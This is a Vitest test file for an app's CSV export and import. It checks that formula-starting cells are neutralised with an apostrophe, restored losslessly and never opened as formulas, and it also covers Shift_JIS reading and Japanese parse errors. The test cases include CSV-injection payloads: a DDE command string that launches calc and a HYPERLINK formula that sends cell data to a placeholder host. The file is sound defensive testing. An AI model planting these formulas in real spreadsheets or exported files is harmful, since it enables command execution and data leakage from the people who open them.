import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { decodeCsv, encodeCsv, neutraliseCell, parseCsv, restoreCell, stringifyCsv } from '../../electron/core/files/csv.ts';
import { AppError } from '../../shared/errors.ts';
import { rng } from '../helpers/prng.ts';

/**
 * The app's one CSV module (electron/core/files/csv.ts): formula neutralisation on export, undone on
 * import, proved lossless over random and hostile cells; and what a spreadsheet sees of the file.
 */

/** What a spreadsheet program reads as a cell's text: plain RFC 4180, nothing undone. */
function asSpreadsheetSees(bytes: Uint8Array): string[][] {
  return parse(Buffer.from(bytes).subarray(3).toString('utf8'), { relax_column_count: true, record_delimiter: ['\r\n'] });
}

/** A cell a spreadsheet would run: starts with = + - @ TAB CR and is not a plain number. */
const RUNS_AS_FORMULA = (s: string) => /^[=+\-@\t\r]/.test(s) && !/^-(?:[0-9]+|[0-9]{1,3}(?:,[0-9]{3})+)(?:\.[0-9]+)?$/.test(s);

describe('formula neutralisation', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://example.invalid/?q="&A1,"詳細")', `'=HYPERLINK("http://example.invalid/?q="&A1,"詳細")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+81 3-1234-5678', "'+81 3-1234-5678"],
    ['+3', "'+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['- 箇条書き\n- 二つ目', "'- 箇条書き\n- 二つ目"],
    ['-', "'-"],
    ['-1e5', "'-1e5"],
    ['\tタブ', "'\tタブ"],
    ['\r改行', "'\r改行"],
    ["'=すでにアポストロフィ", "''=すでにアポストロフィ"],
    ["''-3", "'''-3"],
    // Plain negative numbers are numbers to a spreadsheet, not formulas: written as they are.
    ['-3', '-3'],
    ['-0.5', '-0.5'],
    ['-1,234,567.89', '-1,234,567.89'],
    // Nothing to do.
    ['', ''],
    ["'", "'"],
    ["'abc", "'abc"],
    ['テレワーク = 在宅', 'テレワーク = 在宅'],
    [' =1+1', ' =1+1'],
    ['3-1', '3-1'],
  ];
  for (const [cell, written] of cases) {
    it(`${JSON.stringify(cell)} is written as ${JSON.stringify(written)} and read back as it was`, () => {
      expect(neutraliseCell(cell)).toBe(written);
      expect(restoreCell(written)).toBe(cell);
      const bytes = encodeCsv([['列'], [cell]]);
      expect(asSpreadsheetSees(bytes)[1]![0]).toBe(written);
      expect(decodeCsv(bytes).records).toEqual([['列'], [cell]]);
    });
  }
});

// Pieces of cells: formula starts, apostrophes, CSV syntax (quotes, commas, every line break),
// whitespace, Japanese, emoji, NUL, a BOM character, legitimate signed numbers and known payloads.
const PIECES = [
  '=', '+', '-', '@', '\t', '\r', '\n', '\r\n', "'", "''", '"', '""', ',', ';', ' ', '　', '#', '|', '!',
  'a', 'Z', '0', '7', '.', '課題', 'ﾃﾚﾜｰｸ', '①', '😀', '👩‍💻', '\u0000', '\u0001', '\uFEFF',
  '-3', '-1,234', '+81 3-1234-5678', '+3', '=HYPERLINK("http://x","y")', "=cmd|' /C calc'!A0", '@SUM(1)', '- 箇条書き',
];

function randomCell(r: () => number): string {
  const n = Math.floor(r() * 7);
  let s = '';
  for (let i = 0; i < n; i++) s += PIECES[Math.floor(r() * PIECES.length)]!;
  return s;
}

describe('export → import is lossless (property, fixed seed)', () => {
  const SEED = Number(process.env.CSV_SEED ?? 20250612);
  it(`2,000 random files of random cells come back exactly, and no cell opens as a formula (seed ${SEED})`, () => {
    const r = rng(SEED);
    let cells = 0;
    let neutralised = 0;
    for (let f = 0; f < 2000; f++) {
      const records: string[][] = [];
      const rows = 1 + Math.floor(r() * 6);
      for (let i = 0; i < rows; i++) {
        const width = 1 + Math.floor(r() * 5);
        records.push(Array.from({ length: width }, () => randomCell(r)));
      }
      // A U+FEFF at the very start of a file is a byte order mark to every reader (Excel too):
      // the app's files start with a header row, so it never starts a first cell.
      if (records[0]![0]!.startsWith('\uFEFF')) records[0]![0] = `x${records[0]![0]}`;
      const bytes = encodeCsv(records);
      const back = decodeCsv(bytes);
      expect(back.encoding).toBe('utf-8-bom');
      expect(back.records, `file ${f}: ${JSON.stringify(records)}`).toEqual(records);
      const seen = asSpreadsheetSees(bytes);
      expect(seen.map((x) => x.length)).toEqual(records.map((x) => x.length));
      for (let i = 0; i < seen.length; i++)
        for (let j = 0; j < seen[i]!.length; j++) {
          cells++;
          const cell = seen[i]![j]!;
          expect(RUNS_AS_FORMULA(cell), `file ${f} cell ${i},${j}: ${JSON.stringify(cell)}`).toBe(false);
          if (cell !== records[i]![j]) neutralised++;
        }
    }
    // The generator really produced formula starts (not a vacuous pass).
    expect(cells).toBeGreaterThan(10_000);
    expect(neutralised).toBeGreaterThan(1_000);
  });
});

describe('reading (line endings and quoting: test/unit/cases-codec.test.ts)', () => {
  it('reads Shift_JIS (CP932) bytes', () => {
    // 題名,①\r\n in CP932
    const bytes = new Uint8Array([0x91, 0xe8, 0x96, 0xbc, 0x2c, 0x87, 0x40, 0x0d, 0x0a]);
    expect(decodeCsv(bytes)).toEqual({ records: [['題名', '①']], encoding: 'shift_jis' });
  });

  it('keeps a stray quote inside an unquoted cell as text, in the whole file', () => {
    expect(parseCsv('a,"b"\n彼は"はい"と言った,"x"y\n')).toEqual([
      ['a', 'b'],
      ['彼は"はい"と言った', '"x"y'],
    ]);
  });

  it('refuses broken quoting with the text line, in Japanese', () => {
    const errorOf = (text: string) => {
      try {
        parseCsv(text);
      } catch (err) {
        return err;
      }
      throw new Error('did not throw');
    };
    const open = errorOf('a,b\r\n"x\r\ny",1\r\n2,"never\r\nclosed');
    expect(open).toBeInstanceOf(AppError);
    expect((open as AppError).message).toBe('CSV として読めません（テキストの4行目:「2,"never」）: 引用符（"）が閉じられていません。');
    const after = errorOf('a\n"m\nn"\n3,"x"y\n');
    expect((after as AppError).message).toBe('CSV として読めません（テキストの4行目:「3,"x"y」）: 引用符（"）で囲んだセルの中の " は "" と2つ重ねて書いてください。');
    expect((errorOf('"x" ,y') as AppError).message).toContain('1行目');
  });

  it('writes what Excel expects: BOM, CRLF after every record, quotes only where needed', () => {
    expect(stringifyCsv([['a', 'b,c', 'say "hi"', 'x\ny', ''], ['-3', '=1']])).toBe('a,"b,c","say ""hi""","x\ny",\r\n-3,\'=1\r\n');
    expect([...encodeCsv([['a']]).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
